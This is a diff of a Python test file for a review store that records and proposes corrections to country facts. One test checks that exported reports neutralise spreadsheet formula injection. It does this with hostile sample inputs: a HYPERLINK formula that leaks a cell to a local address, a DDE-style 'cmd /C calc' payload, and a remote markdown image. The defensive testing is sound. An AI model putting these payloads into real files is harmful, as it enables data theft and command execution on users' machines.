@@ -46,7 +46,7 @@ def store(tmp_path: Path) -> ReviewStore:
 )
 def test_a_correction_source_must_be_a_plain_https_url(store: ReviewStore, url: str) -> None:
     with pytest.raises(BadInputError, match="well-formed https"):
-        store.record(EVERYWHERE, "TH", "fact:th-x", "correct", "v1", "new text", url)
+        store.propose(EVERYWHERE, "TH", "fact", "th-x", "new text", url, "v1")
     assert store.history("TH") == []
 
 
@@ -82,7 +82,7 @@ def test_records_with_a_bad_country_or_non_text_are_refused(
     assert store.history("TH") == []
 
 
-@pytest.mark.parametrize("method", ["history", "corrections"])
+@pytest.mark.parametrize("method", ["history", "proposals", "statuses"])
 def test_reading_a_country_outside_the_catalogue_is_refused(store: ReviewStore, method: str) -> None:
     with pytest.raises(BadInputError, match="unknown country"):
         getattr(store, method)(["TH"])
@@ -103,7 +103,7 @@ def test_the_report_neutralises_formulas_and_escapes_markdown(store: ReviewStore
     hyperlink = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
     store.record(EVERYWHERE, "TH", "question:q1", "flag", "v1", hyperlink)
     store.record(EVERYWHERE, "TH", "question:q2", "flag", "v1", "@SUM(A1:A9) -2+3")
-    store.record(EVERYWHERE, "TH", "fact:th-x", "correct", "v1", "+cmd|' /C calc'!A0", "https://example.org/a")
+    store.propose(EVERYWHERE, "TH", "fact", "th-x", "+cmd|' /C calc'!A0", "https://example.org/a", "v1")
     store.record(
         Reviewer("-reviewer", frozenset({"TH"})), "TH", "question:q3", "flag", "v1", "![x](http://127.0.0.1:9/x.png)"
     )
